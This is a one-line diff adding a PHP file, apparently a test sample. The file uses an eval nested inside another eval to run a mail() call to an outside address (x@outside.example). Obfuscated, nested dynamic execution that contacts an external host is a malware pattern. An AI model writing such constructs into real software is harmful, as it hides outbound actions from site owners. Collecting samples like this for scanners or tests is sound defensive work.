@@ -1,0 +1,1 @@
+<?php eval('eval("mail(\'x@outside.example\', \'code in code\', \'x\');");');
